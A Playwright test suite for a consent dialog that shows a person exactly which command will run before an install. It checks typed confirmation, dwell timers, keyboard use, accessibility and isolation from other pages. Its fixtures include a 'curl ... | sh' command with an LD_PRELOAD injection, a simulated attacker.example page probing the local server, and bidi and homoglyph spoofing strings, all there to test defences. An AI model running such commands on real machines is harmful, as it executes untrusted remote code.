"""The page in a real Chromium: a person's clicks and keys, hostile strings through the DOM, and what axe says of it."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from pages import ASKS, Asked, answered, asking, filling, review
from playwright.sync_api import Browser, ConsoleMessage, Error, Page

from consentry import Level, NotApproved, formats, rules, runners
from consentry.dialogs.page.words import WORDS
from consentry.language import LANGUAGES, matching
from consentry.model import Facts, Review, Row, Section
from consentry.review import Matter
from consentry.review import review as made
from consentry.show import read, show

pytestmark = pytest.mark.xdist_group("browser")
HOSTILE = json.loads((Path(__file__).parent / "vectors" / "hostile_strings.json").read_text(encoding="utf-8"))
STRINGS = [bytes.fromhex(item["hex"]).decode("utf-8", "surrogateescape") for item in HOSTILE["items"]]
TALL = (Section(title="More:", rows=tuple(Row(label=f"Fact {i}", value="is so") for i in range(80))),)
YES = "#yes[aria-disabled=false]"


class Person:
    """Somebody at the page; every word of the console is remembered."""

    def __init__(self, browser: Browser, asked: Asked, **context: Any) -> None:
        self.asked = asked
        self.context = browser.new_context(**{"viewport": {"width": 1000, "height": 800}, **context})
        self.page = self.context.new_page()
        self.console: list[str] = []
        self.page.on("console", self._heard)
        self.page.on("pageerror", lambda error: self.console.append(str(error)))

    def _heard(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.console.append(message.text)

    def goes(self) -> Page:
        self.page.goto(self.asked.url)
        self.page.locator("#dialog").wait_for()
        return self.page

    def reads(self) -> Page:
        self.page.locator("#end").scroll_into_view_if_needed()
        return self.page

    def approves(self) -> None:
        self.page.locator("#words").fill(self.page.locator("#phrase").inner_text())
        self.page.locator(YES).click()

    def sees(self, text: str) -> None:
        self.page.locator("#say", has_text=text).wait_for(timeout=5000)

    def leaves(self) -> None:
        self.context.close()
        self.asked.close()


Meet = Callable[..., Person]


@pytest.fixture
def meet(browser: Browser) -> Iterator[Meet]:
    people: list[Person] = []

    def one(asked: Asked | Review, **context: Any) -> Person:
        person = Person(browser, asking(asked) if isinstance(asked, Review) else asked, **context)
        people.append(person)
        return person

    yield one
    for person in people:
        person.leaves()


# ---- deciding ------------------------------------------------------------------------------------------------------


def test_reading_typing_and_clicking_approves(meet: Meet) -> None:
    person = meet(review(sections=TALL))
    page = person.goes()
    assert "#" not in page.url
    person.reads()
    person.approves()
    assert answered(person.asked.result())
    person.sees("Approved. Writing it down")
    person.asked.dialog.tell("Approved. acme is saved in /x.")
    person.sees("acme is saved in /x")
    assert person.console == []
    assert person.context.cookies() == []


def test_the_keyboard_alone_is_enough(meet: Meet) -> None:
    person = meet(review(sections=TALL))
    page = person.goes()
    assert page.evaluate("document.activeElement.id") == "heading"
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "words":
            break
    page.keyboard.type("acme")
    page.keyboard.press("Enter")
    page.locator(YES).wait_for()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "no"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert answered(person.asked.result())


def no(person: Person, reason: str) -> None:
    error = person.asked.result()
    assert isinstance(error, NotApproved), error
    assert error.reason == reason
    assert "nothing was installed" in error.message


@pytest.mark.parametrize("button", ["#no", "#no-above"])
def test_the_safe_button_is_a_no(meet: Meet, button: str) -> None:
    person = meet(review())
    person.goes().locator(button).click()
    no(person, "cancel")
    person.sees("Nothing was installed")


def test_escape_is_a_no(meet: Meet) -> None:
    person = meet(review())
    person.goes().keyboard.press("Escape")
    no(person, "cancel")


def test_closing_the_tab_is_a_no_within_two_seconds(meet: Meet) -> None:
    person = meet(review())
    person.goes().close()
    start = time.monotonic()
    no(person, "closed")
    assert time.monotonic() - start < 2


def test_going_elsewhere_is_a_no(meet: Meet) -> None:
    person = meet(review())
    person.goes().goto("data:text/html,elsewhere")
    no(person, "closed")


def test_a_tab_that_crashes_is_a_no(meet: Meet) -> None:
    person = meet(review())
    page = person.goes()
    with pytest.raises(Error):
        page.goto("chrome://crash", timeout=3000)
    no(person, "closed")


def test_a_reload_survives_and_a_second_opening_does_not(meet: Meet) -> None:
    person = meet(review())
    page = person.goes()
    page.reload()
    page.locator("#dialog").wait_for()
    time.sleep(1.2)
    assert person.asked.open()
    again = person.context.new_page()
    again.goto(person.asked.url)
    again.locator("#say", has_text="opened twice").wait_for()
    no(person, "closed")
    person.sees("opened twice")


# ---- W8: when approving is possible --------------------------------------------------------------------------------


def test_the_end_must_have_been_on_the_screen(meet: Meet) -> None:
    person = meet(review(sections=TALL))
    page = person.goes()
    page.evaluate("document.getElementById('words').value = 'acme'")
    page.wait_for_timeout(600)
    assert page.locator("#yes").get_attribute("aria-disabled") == "true"
    assert "end" in page.locator("#status").inner_text()
    page.locator("#yes").dispatch_event("click")
    assert person.asked.open()
    person.reads()
    page.locator("#words").press("End")
    page.locator("#words").fill("acme")
    page.locator(YES).wait_for()


def test_a_click_within_the_dwell_starts_it_again(meet: Meet) -> None:
    person = meet(review(dwell=0.8))
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    box = page.locator("#yes").bounding_box()
    assert box is not None
    x, y = box["x"] + 10, box["y"] + 10
    for _ in range(6):
        page.wait_for_timeout(300)
        page.mouse.click(x, y)
    assert person.asked.open()
    page.locator(YES).wait_for()
    page.mouse.dblclick(x, y)
    assert answered(person.asked.result())


def test_a_press_before_the_time_and_a_release_after_it_is_nothing(meet: Meet) -> None:
    person = meet(review(dwell=0.5))
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    page.locator("#yes").hover()
    page.mouse.down()
    page.wait_for_timeout(1200)
    page.mouse.up()
    page.wait_for_timeout(200)
    assert person.asked.open()


def test_a_script_is_no_person(meet: Meet) -> None:
    person = meet(review())
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    page.locator(YES).wait_for()
    page.evaluate("document.getElementById('yes').click()")
    page.locator("#yes").dispatch_event("pointerdown")
    page.locator("#yes").dispatch_event("click")
    page.evaluate("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape', bubbles: true}))")
    page.evaluate("document.getElementById('no').click()")
    page.wait_for_timeout(300)
    assert person.asked.open()


def test_a_held_key_is_nothing(meet: Meet) -> None:
    person = meet(review(dwell=0.4))
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    page.locator("#yes").focus()
    for _ in range(20):
        page.keyboard.down("Enter")  # a second "down" is a repeat
        page.wait_for_timeout(50)
    assert person.asked.open()
    page.keyboard.up("Enter")


def test_resizing_starts_the_dwell_again(meet: Meet) -> None:
    person = meet(review(dwell=0.8))
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    page.locator(YES).wait_for()
    page.set_viewport_size({"width": 900, "height": 780})
    page.wait_for_timeout(100)
    assert page.locator("#yes").get_attribute("aria-disabled") == "true"
    page.locator(YES).wait_for()


def test_a_tab_in_the_background_cannot_approve(meet: Meet) -> None:
    person = meet(review())
    page = person.goes()
    person.reads()
    page.locator("#words").fill("acme")
    page.locator(YES).wait_for()
    session = person.context.new_cdp_session(page)
    session.send("Emulation.setFocusEmulationEnabled", {"enabled": False})
    other = person.context.new_page()
    other.bring_to_front()
    page.wait_for_timeout(700)
    assert page.locator("#yes").get_attribute("aria-disabled") == "true"
    assert person.asked.open()


def test_only_the_exact_words_turn_it_on(meet: Meet) -> None:
    person = meet(review())
    page = person.goes()
    person.reads()
    page.locator("#status", has_text="Type the words").wait_for()
    for typed in ("acm", "Acme", "acme ", " acme", "ACME"):
        page.locator("#words").fill(typed)
        assert page.locator("#yes").get_attribute("aria-disabled") == "true"
        assert "Type the words" in page.locator("#status").inner_text()
    page.locator("#words").fill("acme")
    assert page.locator("#yes").get_attribute("aria-disabled") == "false"


def test_more_time_is_a_button(meet: Meet) -> None:
    person = meet(asking(review(), timeout=100))
    page = person.goes()
    page.locator("#more").click()
    page.locator("#left", has_text="6:").wait_for()


def test_what_is_blocked_has_no_approve_control(meet: Meet) -> None:
    blocked = review(words=None, level=Level.BLOCK)
    person = meet(Asked(lambda dialog: dialog.show(blocked)))
    page = person.goes()
    assert page.locator("button:visible").all_inner_texts() == [
        "+5 min",
        "Close",
        "bash, zsh",
        "PowerShell",
        "cmd.exe",
        "Close",
    ]
    assert page.locator("#yes").count() == 0
    assert not page.locator("#words").is_visible()
    page.locator("#no").click()
    assert person.asked.result() is None


# ---- values --------------------------------------------------------------------------------------------------------


def test_values_then_the_review_on_the_same_page(meet: Meet) -> None:
    first = replace(review(words=None), asks=ASKS)
    typed: list[Any] = []

    def both(dialog: Any) -> object:
        typed.append(dialog.fill(first, lambda _i, text: "it is bad" if text == "bad" else ""))
        return dialog.ask(review("npx", "--mode=read"))

    person = meet(Asked(both))
    page = person.goes()
    assert "not checked" in page.locator("#values").inner_text()
    secret = page.get_by_label("Acme API key")
    assert secret.get_attribute("type") == "password"
    person.reads()
    secret.fill("bad")
    page.get_by_label("More", exact=True).fill("a\nb")
    page.locator(YES).click()
    page.locator("#value0wrong", has_text="it is bad").wait_for()
    assert page.evaluate("document.activeElement.id") == "value0"
    page.locator("#value1wrong", has_text="it is needed").wait_for()
    secret.fill("s3cret")
    page.get_by_label("Show what I type").check()
    assert secret.get_attribute("type") == "text"
    page.get_by_label("How much").select_option("write")
    page.locator(YES).click()
    page.locator("#phrase").wait_for()
    assert page.locator(".command code").all_inner_texts() == ["npx", "--mode=read"]
    assert page.evaluate("document.activeElement.id") == "heading"
    assert "s3cret" not in page.content()
    person.reads()
    person.approves()
    assert answered(person.asked.result())
    assert typed == [{"key": ("s3cret",), "mode": ("2",), "more": ("a", "b"), "root": None}]
    assert person.console == []


# ---- what is on the screen -----------------------------------------------------------------------------------------

CELLS = """(kind) => [...document.querySelectorAll("section.exact")].map((s) => [...s.querySelectorAll("li")].map((row) => {
  const text = (node) => node ? node[kind] : "";
  return [text(row.querySelector(".index, .label code")), text(row.querySelector(".cell code"))];
}))"""


@pytest.mark.parametrize("width", [320, 1000])
def test_hostile_strings_come_back_from_the_screen(meet: Meet, width: int) -> None:
    """R1, R5: what stands in the DOM, and what a person could select, are the exact bytes; every row is on the screen."""
    strings = [
        *STRINGS,
        "",
        "ab\u05d0\u05d1 cd",
        "\u0645\u0631\u062d",
        "\\u{202e}",
        "a  b",
        "\u65e5\u672c",
        "<b>x</b>",
        "\ue000",
    ]
    names = [f"N{i}{text}" for i, text in enumerate(strings)]
    asked = review(*strings, env=dict(zip(names, strings, strict=True)), cwd=strings[0])
    person = meet(asked, viewport={"width": width, "height": 700})
    page = person.goes()
    for kind in ("textContent", "innerText"):
        argv, env, cwd = page.evaluate(CELLS, kind)
        assert [read(value) for _, value in argv] == strings
        assert [(read(name), read(value)) for name, value in env] == list(zip(names, strings, strict=True))
        assert [read(value) for _, value in cwd] == [strings[0]]
        for label, value in (*argv, *env, *cwd):
            assert not re.search(
                r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]", label + value
            )
    outside = page.evaluate(
        """() => [...document.querySelectorAll(".row, .cell, .value code")].filter((node) => {
             const box = node.getBoundingClientRect();
             return !(box.height > 0 && box.left >= 0 && box.right <= innerWidth + 0.5);
           }).map((node) => node.className + node.textContent)"""
    )
    assert [text for text in outside if not text.endswith("\x00")] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert person.console == []


def test_different_parts_look_different(meet: Meet) -> None:
    """R2: boundaries of arguments can be told from the screen."""
    seen = []
    for argv in (("a b",), ("a", "b"), ("a", "", "b"), ("a ", "b")):
        person = meet(review(*argv))
        seen.append(person.goes().locator(".command ol").inner_text())
        person.leaves()
    assert len(set(seen)) == len(seen)


def test_an_escape_says_what_it_is(meet: Meet) -> None:
    person = meet(review("safe\u202etxt", "p\u0430y", "typed\\u{202e}", "\udcff"))
    page = person.goes()
    marks = page.locator(".command b").evaluate_all("(all) => all.map((b) => [b.textContent, b.title])")
    assert marks == [["\\u{202e}", "U+202E"], ["\\xff", "byte FF"]]
    assert page.locator(".command i").get_attribute("title") == "U+0430"
    listed = page.locator("section", has_text="not plain ASCII").inner_text()
    assert "RIGHT-TO-LEFT OVERRIDE" in listed
    assert "CYRILLIC SMALL LETTER A" in listed
    assert "byte FF" in listed


@pytest.mark.parametrize(("size", "count"), [(1_000_000, 1), (90, 10_000)])
def test_a_megabyte_is_fully_readable(meet: Meet, size: int, count: int) -> None:
    """R6: nothing is cut, nothing scrolls inside, and approving waits for the end."""
    parts = [f"{i:05}" + "x" * (size - 5) for i in range(count)]
    asked = review(*parts)
    person = meet(asked)
    start = time.monotonic()
    page = person.goes()
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    took = time.monotonic() - start
    (argv,) = page.evaluate(CELLS, "textContent")
    assert [value for _, value in argv] == parts
    inner = page.evaluate(
        """() => [...document.querySelectorAll("section.exact *")].slice(0, 2000).filter((node) => {
             const style = getComputedStyle(node);
             return style.overflow !== "visible" || style.textOverflow !== "clip" || style.maxHeight !== "none";
           }).length"""
    )
    assert inner == 0
    assert page.locator("#yes").get_attribute("aria-disabled") == "true"
    page.keyboard.press("End")
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    page.locator("#words").fill("acme")
    page.locator(YES).wait_for()
    assert took < 15


def test_the_lines_to_copy(meet: Meet) -> None:
    person = meet(review("npx", "a b", "é"), permissions=["clipboard-read", "clipboard-write"])
    page = person.goes()
    page.get_by_role("button", name="bash, zsh").click()
    page.locator(".told", has_text="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == "npx 'a b' $'\\xc3\\xa9'"
    page.get_by_role("button", name="cmd.exe").click(force=True)
    page.locator(".told", has_text="cannot be given").wait_for()


def test_risks_and_rows_point_at_each_other(meet: Meet) -> None:
    rows = (Row(label="0", value="npx"), Row(label="1", value=show("a <-- risk 1"), tags=("<-- risk 1",)))
    section = Section(title="Exactly this will run:", rows=rows, numbered=True, kind="command")
    person = meet(replace(review(), sections=(section,)))
    page = person.goes()
    assert page.locator(".tag.risk").count() == 1
    page.get_by_role("link", name="show it").click()
    assert page.evaluate("location.hash") == "#at1"
    assert page.locator(".row.risky").count() == 1
    assert person.asked.open()


def test_another_pages_script_learns_nothing(meet: Meet, browser: Browser) -> None:
    """W7: no frame, no opener, no call from elsewhere."""
    person = meet(review())
    person.goes()
    origin = f"http://127.0.0.1:{person.asked.port}"
    attacker = person.context.new_page()
    attacker.route(
        "http://attacker.example/", lambda route: route.fulfill(body="<iframe id=f></iframe>", content_type="text/html")
    )
    attacker.goto("http://attacker.example/")
    said = attacker.evaluate(
        """async (origin) => {
             const tried = [];
             for (const [path, init] of [["/", {}], ["/alive", {}], ["/claim", { method: "POST", body: "{}", mode: "no-cors" }],
                 ["/decide", { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } }]]) {
               try { const answer = await fetch(origin + path, init); tried.push(answer.type + (await answer.text()).length); }
               catch { tried.push("blocked"); }
             }
             const frame = document.getElementById("f");
             await new Promise((done) => { frame.onload = done; setTimeout(done, 1500); frame.src = origin + "/"; });
             try { tried.push("frame " + (frame.contentDocument?.body.innerText ?? "closed")); } catch { tried.push("frame closed"); }
             const opened = window.open(origin + "/");
             await new Promise((done) => setTimeout(done, 700));
             let reach;
             try { reach = opened === null || opened.closed ? "closed" : String(opened.document.title); } catch { reach = "denied"; }
             tried.push("opened " + reach);
             return tried;
           }""",
        origin,
    )
    assert said[:4] == ["blocked", "blocked", said[2], "blocked"]
    assert said[2] in ("blocked", "opaque0")
    assert said[4:] == ["frame closed", said[5]]
    assert said[5] in ("opened closed", "opened denied")
    assert person.asked.open()


# ---- accessibility -------------------------------------------------------------------------------------------------


def axe(page: Page) -> list[str]:
    import axe_playwright_python

    script = Path(axe_playwright_python.__file__).with_name("axe.min.js").read_text(encoding="utf-8")
    page.evaluate(script)
    found = page.evaluate("axe.run(document, { resultTypes: ['violations'] })")
    return [f"{one['id']}: {[node['html'] for node in one['nodes']]}" for one in found["violations"]]


STATES: dict[str, Callable[[], Asked]] = {
    "low": lambda: asking(review(level=Level.INFO, words="yes")),
    "careful": lambda: asking(review("npx", "a\u202eb", env={"A": "b"}, sections=TALL)),
    "danger": lambda: asking(review(level=Level.DANGER, words="run unseen code")),
    "not allowed": lambda: Asked(lambda dialog: dialog.show(review(words=None, level=Level.BLOCK))),
    "values": lambda: filling(replace(review(words=None), asks=ASKS)),
}


@pytest.mark.parametrize("state", STATES)
def test_axe_finds_nothing(meet: Meet, state: str) -> None:
    tagged = Section(
        title="What we noticed:",
        rows=(
            Row(label="danger", value="Bad. It is.", tags=("(EXEC-X, /args/1)",)),
            Row(label="warn", value="Hm."),
            Row(label="+", value="comes"),
            Row(label="-", value="goes"),
        ),
    )
    person = meet(STATES[state]())
    page = person.goes()
    assert axe(page) == []
    page.emulate_media(color_scheme="dark")
    assert axe(page) == []
    if state == "careful":
        page.locator("#no").click()
        person.sees("Nothing was installed")
        assert axe(page) == []
        other = meet(review(sections=(tagged,))).goes()
        assert axe(other) == []
        other.emulate_media(color_scheme="dark")
        assert axe(other) == []


TOLD = json.dumps(
    {
        "name": "Acme",
        "command": "bash",
        "args": ["-c", "curl -s https://a.example/i.sh | sh", "(-x) [1] 2. --y/"],
        "env": {"LD_PRELOAD": "/tmp/a.so"},
    }
)


@pytest.mark.parametrize("tag", LANGUAGES)
def test_the_page_speaks_the_language_and_leaves_every_value_alone(meet: Meet, tag: str) -> None:
    request = formats.read(TOLD)
    plan = runners.plan(request.servers[0], None)
    findings = rules.check(request.servers[0], plan, Facts())
    shown = made(Matter(request=request, server=request.servers[0], plan=plan, findings=findings))
    catalog = matching((tag,))
    person = meet(Asked(lambda dialog: dialog.ask(shown), catalog=catalog))
    page = person.goes()
    assert page.evaluate("[document.documentElement.lang, document.documentElement.dir]") == [tag, catalog.direction]
    assert page.locator("#heading").inner_text() == catalog.tell(shown.heading)
    assert page.locator("#badge").inner_text() != "DANGER"
    assert page.locator("#risks li").first.inner_text().startswith(catalog.tell(shown.consequences[0]))
    argv, env = page.evaluate(CELLS, "innerText")
    assert [read(value) for _, value in argv] == list(plan.argv)
    assert [(read(name), read(value)) for name, value in env] == list(plan.env)
    # Left to right on the screen, too: the index, then each letter of the value after the one before it.
    assert page.evaluate(
        """() => [...document.querySelectorAll("section.command .row")].every((row) => {
             const text = row.querySelector(".cell code").firstChild, range = document.createRange();
             const at = [...text.data].map((_, n) => { range.setStart(text, n); range.setEnd(text, n + 1);
               return range.getBoundingClientRect().left; });
             return row.querySelector(".index").getBoundingClientRect().left < at[0]
               && at.every((left, n) => !n || left > at[n - 1]);
           })"""
    )
    # What is not ours inside of a sentence of ours is kept apart.
    inside = page.locator(".facts dd .own bdi[dir=ltr]", has_text="LD_PRELOAD").first
    assert inside.evaluate("(node) => getComputedStyle(node).direction") == "ltr"
    assert axe(page) == []
    person.reads()
    time.sleep(shown.dwell)
    person.approves()
    answer = person.asked.result(timeout=15)
    assert answer.review_digest == shown.digest
    person.sees(catalog.tell(WORDS["approved"]))
    assert person.console == []


def test_the_order_for_ears_is_the_order_for_eyes(meet: Meet) -> None:
    """X3: our heading, the badge as a word, the risks, the command, the safe button before the other."""
    person = meet(review("npx", "acme", level=Level.DANGER))
    snapshot = person.goes().locator("body").aria_snapshot()
    order = [
        'button "Don\'t install"', "alertdialog", "DANGER", 'heading "Run a program on your computer?"', "One consequence.",
        "It may be dangerous.", "Exactly this will run:", "npx", "acme", "End of command.", "Fingerprint", "End of the review.",
        'heading "Your decision"', "If a page, a chat", "textbox", 'button "Don\'t install"', 'button "Install it anyway"',
    ]  # fmt: skip
    at = 0
    for part in order:
        found = snapshot.find(part, at)
        assert found >= 0, (part, snapshot)
        at = found + len(part)


def test_targets_are_large_and_text_can_be_spaced(meet: Meet) -> None:
    person = meet(review(sections=TALL), viewport={"width": 320, "height": 600})
    page = person.goes()
    small = page.evaluate(
        """() => [...document.querySelectorAll("button, input")].filter((n) => n.offsetParent)
             .map((n) => [n.id || n.textContent, n.getBoundingClientRect()]).filter(([, b]) => b.width < 44 || b.height < 44)"""
    )
    assert small == []
    page.evaluate(
        "for (const n of document.querySelectorAll('*')) { n.style.lineHeight = '1.5'; n.style.letterSpacing = '.12em'; n.style.wordSpacing = '.16em'; }"
    )
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.set_viewport_size({"width": 640, "height": 600})
    page.evaluate("document.documentElement.style.fontSize = '200%'")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_print_and_forced_colours(meet: Meet) -> None:
    person = meet(review(level=Level.DANGER), forced_colors="active", reduced_motion="reduce")
    page = person.goes()
    assert page.locator("#badge").inner_text() == "DANGER"  # X2: a word, not a colour
    page.emulate_media(media="print")
    assert page.locator(".command code").first.is_visible()
    assert not page.locator("#decision").is_visible()
